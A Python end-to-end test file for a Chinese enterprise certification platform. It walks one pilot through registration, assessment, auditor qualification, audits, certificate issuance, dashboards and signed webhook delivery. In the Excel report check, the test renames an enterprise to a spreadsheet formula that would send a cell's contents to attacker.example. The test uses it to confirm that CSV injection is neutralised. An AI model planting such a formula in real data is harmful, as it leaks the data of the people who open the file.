"""The whole programme through the gateway only, with the real broker between the services:
register → recommend → select (pilot-enrolled reaches assessment, training, audit) →
assessment scored → training → qualifications (the auditor pool grows) → application →
stage 1 → stage 2 → audit-passed → review → notice → certificate-issued → the registry shows
the pilot certified → the dashboards count it → the province's webhook receiver gets the
signed delivery and verifies it."""

from __future__ import annotations

import datetime as dt
import io
import random
import uuid
from typing import Any

import httpx
import sqlalchemy as sa
from gateway_platform import Platform
from openpyxl import load_workbook
from standardwebhooks.webhooks import Webhook
from webhook_receiver import receiver

from assessment.domain.conformity import CLAUSES
from assessment.domain.framework import IndicatorKind
from assessment.domain.seed import DISCRETE
from audit.db.tables import Application as AuditApplication
from audit.db.tables import Qualification as AuditQualification
from iims_common.testing import (
    assert_no_formulas,
    assert_printable,
    eventually,
    outbox_event_ids,
    read_with_cloudevents_sdk,
)
from iims_contracts import CONTRACTS, CertificateIssued, PilotEnrolled
from registry.domain.uscc import make_uscc
from training.domain.programmes import PROGRAMMES

TODAY = dt.datetime.now(dt.UTC).date()
JIANGSU = "320000"


def day(offset: int) -> str:
    return (TODAY + dt.timedelta(days=offset)).isoformat()


def uscc(rng: random.Random, province: str, kind: str = "91") -> str:
    alphabet = "0123456789ABCDEFGHJKLMNPQRTUWXY"
    return make_uscc(kind + province[:2] + "0102" + "".join(rng.choice(alphabet) for _ in range(9)))


def id_number(rng: random.Random) -> str:
    body = (
        "320102"
        + f"{rng.randint(1960, 1995)}0{rng.randint(1, 9)}1{rng.randint(0, 9)}"
        + f"{rng.randint(0, 999):03d}"
    )
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    check = "10X98765432"[sum(int(c) * w for c, w in zip(body, weights, strict=True)) % 11]
    return body + check


class Api:
    def __init__(self, client: httpx.AsyncClient, key: str) -> None:
        self.client, self.headers = client, {"X-API-Key": key}

    async def call(self, method: str, path: str, expect: int = 200, **kw: Any) -> Any:
        r = await self.client.request(
            method, path, headers={**self.headers, **kw.pop("headers", {})}, **kw
        )
        assert r.status_code == expect, (method, path, r.status_code, r.text[:500])
        return r.json() if r.content else None


async def new_batch(ministry: Api, rng: random.Random, **fields: Any) -> dict[str, Any]:
    """A batch in a free year from 2030 on (the registry allows one batch per year, and the
    tests of one session share its database): a taken year is 409, the next one is tried.
    `fields` may use `{year}` in `name`."""
    first = rng.randint(2030, 2100)
    for year in [*range(first, 2101), *range(2030, first)]:  # BatchCreate: year ≤ 2100
        body = {**fields, "year": year, "name": str(fields.get("name", "b")).format(year=year)}
        r = await ministry.client.post("/api/v1/batches", json=body, headers=ministry.headers)
        if r.status_code != 409:
            assert r.status_code == 201, r.text
            return dict(r.json())
    raise AssertionError("no free batch year from 2030 to 2100")


async def key(gw: httpx.AsyncClient, admin: dict[str, str], **body: Any) -> Api:
    r = await gw.post("/api/v1/api-keys", json={"name": "e2e", **body}, headers=admin)
    assert r.status_code == 201, r.text
    return Api(gw, r.json()["api_key"])


async def test_the_whole_programme_through_the_gateway(
    gw: httpx.AsyncClient, admin: dict[str, str], platform: Platform
) -> None:
    rng = random.Random()
    ministry = await key(gw, admin, role="ministry")
    management = await key(gw, admin, role="management_org")

    # Units, agencies and a batch (the ministry), the province's system and its webhook.
    unit = await ministry.call(
        "POST",
        "/api/v1/recommending-units",
        201,
        json={
            "name": f"江苏省经济和信息化委员会-{rng.randint(0, 10**6)}",
            "kind": "provincial_authority",
            "region_code": JIANGSU,
        },
    )
    province = await key(
        gw, admin, role="province", province_code=JIANGSU, organization_id=unit["id"]
    )
    consultancy = await ministry.call(
        "POST",
        "/api/v1/agencies",
        201,
        json={
            "uscc": uscc(rng, JIANGSU, "12"),
            "name": "江苏贯标咨询有限公司",
            "kind": "consultancy",
            "status": "authorized",
            "province_code": JIANGSU,
        },
    )
    body = await ministry.call(
        "POST",
        "/api/v1/agencies",
        201,
        json={
            "uscc": uscc(rng, "110000", "12"),
            "name": "某认定服务机构",
            "kind": "certification_body",
            "status": "authorized",
            "province_code": "110000",
        },
    )
    certification_body = await key(gw, admin, role="certification_body", organization_id=body["id"])
    batch = await new_batch(
        ministry, rng, name="{year}年贯标试点", pilot_quota=500, certification_target=200
    )
    year = batch["year"]
    async with receiver() as (url, received):
        subscription = await province.call(
            "POST",
            "/api/v1/webhooks",
            201,
            json={"url": url, "event_types": [PilotEnrolled.topic, CertificateIssued.topic]},
        )

        # Register → recommend → select.
        enterprise = await ministry.call(
            "POST",
            "/api/v1/enterprises",
            201,
            json={
                "uscc": uscc(rng, JIANGSU),
                "name": f"江苏钢铁{rng.randint(0, 10**6)}有限公司",
                "province_code": JIANGSU,
                "industry_code": "C34",
                "size": "medium",
            },
        )
        rec = await province.call(
            "POST",
            f"/api/v1/batches/{batch['id']}/recommendations",
            201,
            json={"enterprise_id": enterprise["id"], "reason": "两化融合基础较好"},
        )
        pilot = await ministry.call(
            "POST",
            f"/api/v1/batches/{batch['id']}/pilots",
            201,
            json={"recommendation_id": rec["id"], "consultancy_id": consultancy["id"]},
        )
        me = await key(gw, admin, role="enterprise", organization_id=enterprise["id"])
        # The province's work plan for the batch and the pilot's first progress report.
        await province.call(
            "POST",
            f"/api/v1/batches/{batch['id']}/province-plans",
            201,
            json={"title": "江苏省贯标工作落实方案", "summary": "分三批推进"},
        )
        await province.call(
            "POST",
            f"/api/v1/pilots/{pilot['id']}/progress-reports",
            201,
            json={
                "period": f"{year}-06",
                "stage": "体系建立",
                "percent": 40,
                "narrative": "完成现状诊断",
            },
        )

        # pilot-enrolled reached assessment (baseline draft) and training (invitation).
        async def baseline() -> Any:
            items = (await me.call("GET", "/api/v1/assessments"))["items"]
            return items[0] if items else None

        draft = await eventually(baseline, timeout=30)
        invitations = await province.call("GET", "/api/v1/invitations")
        assert enterprise["id"] in {i["enterprise_id"] for i in invitations["items"]}

        # Assessment scored.
        answers = {
            c: ("B" if i.kind is IndicatorKind.ordinal else str(i.target / 2))
            for c, i in DISCRETE.indicators().items()
        }
        ratings = {c.code: "conforming" for c in CLAUSES}
        await me.call(
            "PATCH",
            f"/api/v1/assessments/{draft['id']}",
            json={"answers": answers, "conformity": ratings},
            headers={"If-Match": f'"{draft["version"]}"'},
        )
        scored = await me.call("POST", f"/api/v1/assessments/{draft['id']}/submit")
        assert scored["status"] == "scored"

        # Training: two of the body's staff take the auditor programme; one becomes lead.
        session = await ministry.call(
            "POST",
            "/api/v1/sessions",
            201,
            json={
                "programme_code": "certification-auditors",
                "starts_on": "2014-10-08",
                "ends_on": "2014-10-10",
                "location": "北京",
                "lecturers": "认定管理组织",
                "capacity": 30,
            },
        )
        numbers = []
        people = []
        for name in ("李审核", "王审核"):
            person = await certification_body.call(
                "POST",
                "/api/v1/people",
                201,
                json={
                    "name": name,
                    "id_number": id_number(rng),
                    "phone": "13912345678",
                    "organization_kind": "agency",
                },
            )
            enrollment = await certification_body.call(
                "POST",
                f"/api/v1/sessions/{session['id']}/enrollments",
                201,
                json={"person_id": person["id"]},
            )
            for m in PROGRAMMES["certification-auditors"].modules:
                await ministry.call(
                    "POST",
                    f"/api/v1/enrollments/{enrollment['id']}/attendance",
                    json={"module_no": m.no, "hours": float(m.hours)},
                )
            await ministry.call(
                "POST", f"/api/v1/enrollments/{enrollment['id']}/exam", json={"score": 88}
            )
            [q] = (
                await ministry.call(
                    "GET", "/api/v1/qualifications", params={"person_id": person["id"]}
                )
            )["items"]
            numbers.append(q["number"])
            people.append(person["id"])
        await management.call(
            "POST",
            f"/api/v1/qualifications/{numbers[0]}/lead-auditor",
            201,
            json={"audits_as_member": 3, "evidence": "3 次审核员经历"},
        )

        # The auditor pool grew (audit consumed qualification-granted).
        async def pool() -> bool:
            items = (await certification_body.call("GET", "/api/v1/auditors"))["items"]
            kinds = {q["kind"] for a in items for q in a["qualifications"]}
            return len(items) == 2 and "lead_auditor" in kinds

        await eventually(pool, timeout=30)
        # Time passes: the auditors were qualified two months ago (simulated in audit's copy).
        async with platform.services["audit"].state.sessionmaker() as s, s.begin():
            await s.execute(
                sa.update(AuditQualification)
                .where(AuditQualification.person_id.in_([uuid.UUID(p) for p in people]))
                .values(granted_on=TODAY - dt.timedelta(days=60))
            )
        for person_id in people:
            await certification_body.call(
                "PUT", f"/api/v1/auditors/{person_id}/competences", json={"industries": ["C"]}
            )

        # Application → stage 1 → stage 2 → audit-passed → review → notice → decision.
        application = await me.call(
            "POST",
            "/api/v1/applications",
            201,
            json={
                "enterprise_id": enterprise["id"],
                "certification_body_id": body["id"],
                "scope": "钢铁产品研发、生产与销售",
                "site": "江苏省南京市",
                "system_running_since": day(-200),
                "internal_audit_done": True,
                "management_review_done": True,
            },
        )
        team = [
            {"person_id": people[0], "role": "lead"},
            {"person_id": people[1], "role": "member"},
        ]
        for kind, start, end in (("stage1", -30, -30), ("stage2", -20, -18)):
            audit = await certification_body.call(
                "POST",
                "/api/v1/audits",
                201,
                json={
                    "application_id": application["id"],
                    "kind": kind,
                    "starts_on": day(start),
                    "ends_on": day(end),
                    "team": team,
                },
            )
            await certification_body.call(
                "POST", f"/api/v1/audits/{audit['id']}/completion", json={"report": "符合"}
            )
        conclusion = await certification_body.call(
            "POST", f"/api/v1/applications/{application['id']}/conclusion"
        )
        assert conclusion["outcome"] == "passed"

        async def in_review() -> bool:
            got = await management.call("GET", f"/api/v1/applications/{application['id']}")
            return bool(got["status"] == "under_review")

        await eventually(in_review, timeout=30)
        await management.call(
            "POST", f"/api/v1/applications/{application['id']}/review", json={"approved": True}
        )
        async with (
            platform.services["audit"].state.sessionmaker() as s,
            s.begin(),
        ):  # the notice ran its days
            await s.execute(
                sa.update(AuditApplication)
                .where(AuditApplication.id == uuid.UUID(application["id"]))
                .values(notice_ends_on=TODAY - dt.timedelta(days=1))
            )
        certificate = await management.call(
            "POST", f"/api/v1/applications/{application['id']}/decision", 201, json={}
        )
        public = await gw.get(f"/api/v1/public/certificates/{certificate['number']}")
        assert public.status_code == 200 and public.json()["status"] == "valid"

        # The registry shows the pilot certified (it consumed certificate-issued).
        async def certified() -> bool:
            got = await ministry.call("GET", f"/api/v1/pilots/{pilot['id']}")
            return bool(got["status"] == "certified")

        await eventually(certified, timeout=30)

        # The dashboards count it (fed by events, not by calling the services).
        async def counted() -> Any:
            board = await province.call("GET", f"/api/v1/dashboards/provinces/{JIANGSU}")
            found = [b for b in board["batches"] if b["batch_id"] == batch["id"]]
            if not found:  # the consumer has not reached this batch's events yet
                return None
            mine = found[0]
            # Each count comes from its own topic, read in no order across topics: wait for all.
            done = (
                mine["certified"] == 1
                and mine["pilots_by_status"]["certified"] == 1
                and mine["assessments_done"] == 1
                and mine["audits_completed"] == 2
            )
            return mine if done else None

        mine = await eventually(counted, timeout=60)
        assert mine["recommended"] == 1 and mine["pilots"] == 1 and mine["pilot_quota"] == 500
        assert mine["assessments_done"] == 1 and mine["average_index"] == float(
            scored["total_score"]
        )
        assert mine["audits_completed"] == 2 and mine["certification_target"] == 200
        national = await management.call("GET", "/api/v1/dashboards/national")
        [nat] = [b for b in national["batches"] if b["batch_id"] == batch["id"]]
        assert nat["certified"] == 1
        assert national["people_qualified"].get("auditor", 0) >= 2
        other = await gw.get("/api/v1/dashboards/provinces/110000", headers=province.headers)
        assert other.status_code == 404

        # The province's receiver got signed deliveries and verifies them.
        async def delivered() -> list[dict[str, Any]]:
            found = []
            for headers, raw in received.requests:
                payload = Webhook(subscription["secret"]).verify(raw, headers)
                found.append(payload)
            types = {p["type"] for p in found}
            return found if {PilotEnrolled.topic, CertificateIssued.topic} <= types else []

        payloads = await eventually(delivered, timeout=30)
        issued = [p for p in payloads if p["type"] == CertificateIssued.topic]
        assert issued[0]["data"]["certificate_no"] == certificate["number"]

        # Every delivery ends delivered, each on its first attempt (204). Waited for: the
        # receiver has the two events above, but a delivery is marked only after its answer,
        # and later events (e.g. the pilot's status) may still be on their way (the CI run of
        # session 6 read one still pending).
        async def all_delivered() -> dict[str, Any] | None:
            log = await province.call("GET", f"/api/v1/webhooks/{subscription['id']}/deliveries")
            return log if all(d["status"] == "delivered" for d in log["items"]) else None

        log = await eventually(all_delivered, timeout=30)
        assert all(d["log"][0]["status_code"] == 204 for d in log["items"])

        # One call for the web frontend: the enterprise overview.
        view = await me.call("GET", f"/api/v1/enterprise-overviews/{enterprise['id']}")
        assert view["enterprise"]["name"] == enterprise["name"]
        assert view["pilot"]["status"] == "certified"
        assert view["latest_assessment"]["id"] == draft["id"]
        assert [a["kind"] for a in view["audits"]] == ["stage1", "stage2"]
        assert [c["number"] for c in view["certificates"]] == [certificate["number"]]
        assert view["unavailable"] == []
        stranger = await key(gw, admin, role="enterprise", organization_id=str(uuid.uuid4()))
        r = await gw.get(
            f"/api/v1/enterprise-overviews/{enterprise['id']}", headers=stranger.headers
        )
        assert r.status_code == 404

        # The province's progress report (贯标进展情况报送) as Excel with Chinese headers —
        # after the enterprise renamed itself to a formula (OWASP CSV injection): the cell
        # is text, and the sheet prints landscape, one page wide, header frozen/repeated.
        hostile = '=HYPERLINK("http://attacker.example/?x="&B2,"查看详情")'
        current = await ministry.call("GET", f"/api/v1/enterprises/{enterprise['id']}")
        await ministry.call(
            "PATCH",
            f"/api/v1/enterprises/{enterprise['id']}",
            json={"name": hostile},
            headers={"If-Match": f'"{current["version"]}"'},
        )
        r = await gw.get(f"/api/v1/reports/progress/{JIANGSU}", headers=province.headers)
        assert r.status_code == 200 and r.headers["content-type"].startswith(
            "application/vnd.openxmlformats"
        )
        assert_no_formulas(r.content)
        assert_printable(r.content)
        sheet = load_workbook(io.BytesIO(r.content)).active
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0][:3] == ("企业名称", "统一社会信用代码", "行业代码")
        [row] = [x for x in rows[1:] if x[0] == "'" + hostile]
        assert row[4] == "已认定" and row[8] == certificate["number"] and row[3] == year
        r = await gw.get("/api/v1/reports/progress/110000", headers=province.headers)
        assert r.status_code == 404

        # Later: the certificate is suspended and an auditor's qualification revoked.
        await management.call(
            "POST",
            f"/api/v1/certificates/{certificate['number']}/suspension",
            json={"reason": "监督审核未按期进行"},
        )
        await ministry.call(
            "POST", f"/api/v1/qualifications/{numbers[1]}/revoke", json={"reason": "违反审核纪律"}
        )

    # Every event type the platform emits, as a binding-aware reader sees them on the broker.
    await every_event_reads_with_the_cloudevents_sdk(platform)


async def emitted_ids(platform: Platform) -> set[str]:
    """The ids of the events the services wrote into their outboxes (published rows are kept
    for a day), to tell them from events other tests put on this broker by hand."""
    ids: set[str] = set()
    for app in platform.services.values():
        ids |= await outbox_event_ids(app.state.sessionmaker)
    return ids


async def every_event_reads_with_the_cloudevents_sdk(platform: Platform) -> None:
    """Every event the flow made the services emit reads with the official CloudEvents SDK's
    auto-detecting Kafka reader (see `read_with_cloudevents_sdk`), and the flow emitted every
    type of the programme (the registry's programme-work events are driven by its own
    tests, `test_work_api.py`)."""
    wanted = {c.event_type() for c in CONTRACTS if c.__module__ != "iims_contracts.work"}
    bootstrap = platform.settings.kafka_bootstrap_servers

    async def all_types() -> set[str] | None:
        seen = await read_with_cloudevents_sdk(bootstrap, await emitted_ids(platform))
        return seen if wanted <= seen else None

    seen = await eventually(all_types, timeout=60)
    # Seeding the year's programme work may add its own events beside the flow's: every one
    # must still be a contract type.
    assert seen is not None and wanted <= seen <= {c.event_type() for c in CONTRACTS}
